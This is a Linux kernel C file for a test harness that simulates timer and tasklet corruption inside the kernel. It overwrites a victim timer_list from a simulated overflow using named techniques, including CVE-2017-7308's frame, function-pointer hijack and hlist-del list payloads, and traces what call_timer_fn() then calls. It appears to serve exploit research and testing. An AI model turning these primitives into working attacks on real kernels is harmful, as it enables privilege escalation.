// SPDX-License-Identifier: GPL-2.0
/*
 * timerharness test unit: the table of cells (cells.h, generated from the
 * project's kernel/cells.tsv by kernel/install-unit) and the run of the one
 * named on the command line:
 *
 *   timerharness.cell=MEMCPY_INTRA_PENDING_FUNC_WRITE_CR4 timerharness.token=HEX
 *
 * A late_initcall sets up the victim, builds the attacker's image of the
 * bytes it will write (the current bytes, as a leak gives them, with its
 * fields changed), writes it from the overflowed buffer with softirqs off
 * (the exploit's write ran in the receive path), checks that the write
 * landed, arms or modifies the timer as the victim would, and waits for the
 * wheel. What call_timer_fn() calls is read at trace_timer_expire_entry()
 * and trace_timer_expire_exit() (kernel/time/timer.c), the kernel's own
 * observation points around fn(timer). A cell of the tasklet family
 * (api tasklet) runs in tasklet.c, the same way.
 */
#include <linux/cred.h>
#include <linux/delay.h>
#include <linux/init.h>
#include <linux/kernel.h>
#include <linux/kthread.h>
#include <linux/moduleparam.h>
#include <linux/pid.h>	/* task_pid_nr(): linux/sched.h on 6.1, here on 6.12 */
#include <linux/sched.h>
#include <linux/string.h>
#include <trace/events/timer.h>
#include "th_unit.h"

#undef MODULE_PARAM_PREFIX
#define MODULE_PARAM_PREFIX "timerharness."

static char th_cell[96];
module_param_string(cell, th_cell, sizeof(th_cell), 0444);
static char th_token[40];
module_param_string(token, th_token, sizeof(th_token), 0444);

#define TH_CELL(id, technique, timing, payload, api) { #id, technique, timing, payload, api },
static const struct th_cell_def th_cells[] = {
#include "cells.h"
};
#undef TH_CELL

void th_say(const char *fmt, ...)
{
	struct va_format vaf;
	va_list args;

	va_start(args, fmt);
	vaf.fmt = fmt;
	vaf.va = &args;
	pr_info("timerharness %s: %pV", th_token, &vaf);
	va_end(args);
}

/* ---- the sleeper: a uid-1000 task nothing wakes ---------------------------- */

struct task_struct *th_sleeper;
static atomic_t th_wakeups = ATOMIC_INIT(0);
static DECLARE_COMPLETION(th_sleeper_ready);

static int th_sleeper_fn(void *unused)
{
	struct cred *c = prepare_creds();

	if (c) {
		c->uid = c->euid = c->suid = c->fsuid = KUIDT_INIT(1000);
		c->gid = c->egid = c->sgid = c->fsgid = KGIDT_INIT(1000);
		commit_creds(c);
	}
	set_current_state(TASK_INTERRUPTIBLE);
	complete(&th_sleeper_ready);
	for (;;) {
		schedule();
		atomic_inc(&th_wakeups);
		set_current_state(TASK_INTERRUPTIBLE);
	}
	return 0;
}

int th_sleeper_wakeups(void)
{
	return atomic_read(&th_wakeups);
}

/* ---- what call_timer_fn() calls -------------------------------------------- */

static struct timer_list *th_watched;
static atomic_t th_calls = ATOMIC_INIT(0), th_returns = ATOMIC_INIT(0);

static void th_probe_entry(void *data, struct timer_list *timer, unsigned long baseclk)
{
	void *fn;

	if (timer != READ_ONCE(th_watched))
		return;
	fn = READ_ONCE(timer->function);	/* what call_timer_fn() is handed */
	atomic_inc(&th_calls);
	th_say("CALL call_timer_fn -> %pS (timer %px) jiffies=%lu\n", fn, timer, jiffies);
	th_list_at_call();	/* pending list:hlist-del: the cred after the detach */
}

static void th_probe_exit(void *data, struct timer_list *timer)
{
	if (timer != READ_ONCE(th_watched))
		return;
	atomic_inc(&th_returns);
	th_say("RETURN call_timer_fn <- (timer %px)\n", timer);
}

/* ---- the run ---------------------------------------------------------------- */

static void th_overflow(u8 *dst, const u8 *src, size_t len)
{
	size_t i;

	/* Byte by byte, as a frame copied past its block would land. */
	for (i = 0; i < len; i++)
		WRITE_ONCE(dst[i], src[i]);
}

static int th_run(const struct th_cell_def *c)
{
	bool pending = !strcmp(c->timing, "pending");
	struct th_victim v = {};
	struct th_image img = {};
	struct timer_list *watch;
	int wakeups0, err, i;
	size_t toff;

	if (!strcmp(c->technique, "ring-block-overflow"))
		err = th_victim_packet_ring(&v);
	else if (!strcmp(c->technique, "memcpy-intra"))
		err = th_victim_neighbour(&v);
	else
		err = -EINVAL;
	if (err) {
		th_say("SETUP failed: %s victim for %s: %d\n", c->technique, c->id, err);
		return err;
	}
	th_say("VICTIM %s legit=%pS timer=%px: %s\n", v.name, (void *)v.legit, v.timer, v.what);

	if (pending && v.arm)
		v.arm(&v);

	/* The attacker's image: the bytes there now (a leak), then its fields. */
	toff = (u8 *)v.timer - v.write_from;
	img.len = v.write_len;
	if (img.len > sizeof(img.bytes))
		return -E2BIG;
	local_bh_disable();
	memcpy(img.bytes, v.write_from, img.len);
	local_bh_enable();
	img.t = (struct timer_list *)(img.bytes + toff);
	if (th_victim_zeroes_list(&v)) {
		/* CVE-2017-7308's frame: entry and expires zero, flags 1. */
		memset(img.bytes, 0, img.len);
		img.t->flags = 1;
	}

	if (!strcmp(c->payload, "none"))
		err = 0;
	else if (!strncmp(c->payload, "func:", 5))
		err = th_func_payload(c->payload, &v, &img);
	else if (!strncmp(c->payload, "list:", 5))
		err = th_list_payload(c->payload, pending, &v, &img);
	else
		err = -EINVAL;
	if (err) {
		th_say("SETUP failed: payload %s: %d\n", c->payload, err);
		return err;
	}
	if (img.writes_after)
		memcpy(img.bytes + toff + sizeof(struct timer_list), &img.after, sizeof(img.after));
	else if (img.len > toff + sizeof(struct timer_list))
		img.len = toff + sizeof(struct timer_list);

	wakeups0 = th_sleeper_wakeups();
	watch = img.watch ? img.watch : v.timer;
	WRITE_ONCE(th_watched, watch);
	if (strcmp(c->payload, "none")) {
		bool landed;

		th_say("WRITE %zu bytes at timer%+ld (%s %s): %s\n", img.len, -(long)toff,
		       c->technique, c->timing, img.intent);
		local_bh_disable();
		th_overflow(v.write_from, img.bytes, img.len);
		landed = !memcmp(v.write_from, img.bytes, img.len);
		/*
		 * LKDTM: say whether the primitive worked before anything runs,
		 * so before local_bh_enable(): it runs pending softirqs
		 * (kernel/softirq.c: __local_bh_enable_ip() -> do_softirq()),
		 * and a pending timer already due would be called by
		 * run_timer_softirq() -> call_timer_fn() first, its CALL line
		 * and the kernel's report ahead of this one on the console,
		 * where the host reads nothing before the write as the
		 * attack's. printk() is fine with softirqs off.
		 */
		th_say("WRITE %s: .function=%pS entry.next=%px entry.pprev=%px%s\n",
		       landed ? "landed" : "missed", watch->function, v.timer->entry.next,
		       v.timer->entry.pprev,
		       watch != v.timer ? " (.function: the forged timer's, the call watched)" : "");
		local_bh_enable();
		if (!landed)
			return -EIO;
	} else {
		th_say("WRITE none: control run, nothing overwritten\n");
	}

	/* before-arm list:hlist-del: this mod_timer() finds pprev set and
	 * detaches through it. Pending list payloads wait for expiry, where
	 * expire_timers() follows the planted next, as the model's do. */
	if (!pending && v.arm)
		v.arm(&v);
	if (!pending && !strcmp(c->payload, "list:hlist-del"))
		th_list_after_rearm(&v);

	/* Wait for the wheel: the first call and its return, then 200 ms for
	 * its effects; 1.5 s at most. */
	for (i = 0; i < 150; i++) {
		msleep(10);
		if (atomic_read(&th_returns) && i >= 20)
			break;
	}
	WRITE_ONCE(th_watched, NULL);
	if (th_sleeper_wakeups() != wakeups0)
		th_say("EFFECT th-sleeper woken %d times (pid %d), which nothing in the kernel does\n",
		       th_sleeper_wakeups() - wakeups0, task_pid_nr(th_sleeper));
	if (v.report)
		v.report(&v);
	th_say("STATE calls=%d returns=%d pending=%d\n", atomic_read(&th_calls),
	       atomic_read(&th_returns), timer_pending(v.timer));
	return 0;
}

static int __init th_init(void)
{
	const struct th_cell_def *c = NULL;
	size_t i;
	int err;

	if (!th_cell[0])
		return 0;
	if (!th_token[0]) {
		pr_err("timerharness: timerharness.cell= without timerharness.token=\n");
		return -EINVAL;
	}
	th_say("UNIT cells=%zu\n", ARRAY_SIZE(th_cells));
	for (i = 0; i < ARRAY_SIZE(th_cells); i++)
		if (!strcmp(th_cells[i].id, th_cell))
			c = &th_cells[i];
	if (!c) {
		th_say("UNKNOWN cell %s\n", th_cell);
		return -EINVAL;
	}
	th_say("CELL %s technique=%s timing=%s payload=%s api=%s\n", c->id, c->technique, c->timing,
	       c->payload, c->api);
	th_sleeper = kthread_run(th_sleeper_fn, NULL, "th-sleeper");
	if (IS_ERR(th_sleeper)) {
		th_say("SETUP failed: sleeper %ld\n", PTR_ERR(th_sleeper));
		return PTR_ERR(th_sleeper);
	}
	wait_for_completion(&th_sleeper_ready);
	msleep(20);	/* let it reach schedule() */
	err = register_trace_timer_expire_entry(th_probe_entry, NULL);
	if (!err)
		err = register_trace_timer_expire_exit(th_probe_exit, NULL);
	if (err) {
		th_say("SETUP failed: tracepoints %d\n", err);
		return err;
	}
	if (!strcmp(c->api, "tasklet"))
		err = th_tasklet_run(c);
	else
		err = th_run(c);
	th_say("END %s %d\n", c->id, err);
	return 0;
}
late_initcall(th_init);
